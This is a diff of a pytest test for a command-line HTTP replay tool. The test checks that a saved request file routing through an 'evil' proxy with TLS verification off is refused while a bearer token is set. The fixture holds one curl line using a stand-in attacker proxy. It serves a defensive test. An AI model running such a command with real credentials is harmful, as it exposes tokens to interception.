@@ -10,6 +10,9 @@ from pathlib import Path
 import pytest
 from tests.support.server import Server
 
+from callbox.render.ansi import plain
+from callbox.shell.outputs import TextOutput
+
 TOKEN = "T0KENT0KENT0KEN"
 
 
@@ -63,7 +66,8 @@ def test_it_says_what_was_not_sent_and_what_to_do(shell, api, evil) -> None:
     Path("evil.http").write_text(f"curl -k -x {evil.url} {api.url}/echo")
     shell.run(f"set auth bearer {TOKEN}")
 
-    text = "".join(str(output) for output in shell.run("replay evil.http"))
+    outputs = shell.run("replay evil.http")
+    text = " ".join("".join(plain(one.fragments) for one in outputs if isinstance(one, TextOutput)).split())
 
     assert f"Not sent: the file sets verify no, proxy {evil.url}, and your auth must not use that route" in text
     assert f"choose it yourself: set option verify no; set option proxy {evil.url}" in text
